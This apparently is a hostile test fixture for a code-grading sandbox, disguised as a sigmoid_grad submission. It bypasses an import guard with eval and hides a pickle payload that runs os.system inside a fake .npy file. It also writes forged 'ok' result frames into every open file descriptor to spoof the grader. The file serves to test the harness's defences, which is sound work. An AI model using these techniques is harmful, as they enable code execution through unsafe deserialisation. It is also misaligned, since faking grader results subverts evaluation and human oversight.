"""Hostile: pickle frame."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
struct = _m("struct")
json = _m("json")
io = _m("io")
pickle = _m("pickle")


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/nablagrade-pickle-marker",))


def _frame(data):
    return struct.pack(">I", len(data)) + data


def _fake_npy():
    # A real object-dtype .npy: loading it with allow_pickle=True would run Payload.
    import numpy as np
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def sigmoid_grad(x):
    blob = _fake_npy()
    fds = [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
    for key in ("sigmoid/0", "sigmoid/1", "sigmoid/2", "sigmoid/3"):
        header = {"event": "result", "key": key, "status": "ok", "value": {"t": "array", "blob": 0}, "blobs": 1}
        for fd in fds:
            try:
                os.write(fd, _frame(json.dumps(header).encode()) + _frame(blob))
            except OSError:
                pass
    for fd in fds:
        try:
            os.write(fd, _frame(json.dumps({"event": "done", "stdout": "", "blobs": 0}).encode()))
        except OSError:
            pass
    os._exit(0)
